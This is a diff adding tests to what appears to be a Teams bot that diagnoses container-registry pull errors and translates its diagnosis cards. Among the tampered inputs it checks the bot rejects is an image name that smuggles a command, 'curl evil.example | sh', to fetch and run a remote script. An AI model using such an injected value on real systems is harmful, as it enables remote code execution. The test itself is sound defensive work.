@@ -1,4 +1,4 @@
-import { symptomText } from '../../src/advice';
+import { causeText, symptomText } from '../../src/advice';
 import { supportedLocales, translator, type Locale } from '../../src/i18n';
 import { maxPasteBytes } from '../../src/recognize';
 import { startConnector, startTestBot, turn, type RecordingConnector, type TestBot } from '../http/harness';
@@ -112,6 +112,38 @@ describe.each<[Kind, string]>([
     expect(status).toBe(200);
     expect(calls).toEqual([]);
   });
+});
+
+describe('the card gives the fix the paste calls for, as acrcheck diagnose does', () => {
+  test.each(supportedLocales)(
+    'an untrusted certificate (%s): the inspecting proxy is named and its fix comes first, also after a language switch',
+    async (locale) => {
+      const card = await replyCard(message(connector.serviceUrl, tlsError, { locale: teamsLocale[locale] }));
+      const cause = causeText('client-firewall', locale, 'tls-untrusted');
+      expect(cause.title).not.toBe(causeText('client-firewall', locale).title);
+      expect(textOf(card)).toContain(cause.title);
+      expect(codeOf(card)[0]).toContain('openssl s_client -connect myregistry.azurecr.io:443');
+      const other = supportedLocales.find((l) => l !== locale) as Locale;
+      const button = buttonsOf(card).find((b) => b.verb === 'card.translate' && b.data.locale === other);
+      const { body } = await send(execute(connector.serviceUrl, button!, 'card-1'));
+      expect(textOf(body.value as Json)).toContain(
+        causeText('client-firewall', other, 'tls-untrusted').title,
+      );
+    },
+  );
+});
+
+test('a Docker Hub limit names the image the paste names in its import command, also on the card in another language', async () => {
+  const paste =
+    'Failed to pull image "redis:7.2": rpc error: code = Unknown desc = failed to pull and unpack image "docker.io/library/redis:7.2": ' +
+    'unexpected status code https://registry-1.docker.io/v2/library/redis/manifests/sha256:abc: 429 Too Many Requests - ' +
+    'Server message: toomanyrequests: You have reached your pull rate limit.';
+  const card = await replyCard(message(connector.serviceUrl, paste));
+  const importLine = '--source docker.io/library/redis:7.2 --image redis:7.2';
+  expect(textOf(card)).toContain(importLine);
+  const german = buttonsOf(card).find((b) => b.verb === 'card.translate' && b.data.locale === 'de');
+  const { body } = await send(execute(connector.serviceUrl, german!, 'card-1'));
+  expect(textOf(body.value as Json)).toContain(importLine);
 });
 
 describe('commands', () => {
@@ -369,8 +401,26 @@ describe('card buttons', () => {
     expect(textOf(cardOf(calls[0]?.body))).toContain(symptomText('dns-lookup', 'en').title);
   });
 
+  const diagnosisData = (extra: Record<string, unknown>) => ({
+    verb: 'card.translate',
+    data: {
+      verb: 'card.translate',
+      locale: 'de',
+      card: {
+        view: 'diagnosis',
+        verdict: 'not-network',
+        kind: 'rate-limit',
+        registry: null,
+        symptoms: [],
+        causes: [],
+        ...extra,
+      },
+    },
+  });
   const tampered: [string, unknown][] = [
     ['no value at all', undefined],
+    ['an image that no paste could name', diagnosisData({ image: 'redis:7.2 && curl evil.example | sh' })],
+    ['a regional endpoint that is not one', diagnosisData({ regionalEndpoints: ['evil.example.com'] })],
     ['an unknown verb', { verb: 'probe.run', data: { verb: 'probe.run', registry: '10.0.0.1' } }],
     ['a verb that differs from its data', { verb: 'card.translate', data: { verb: 'example.show' } }],
     [
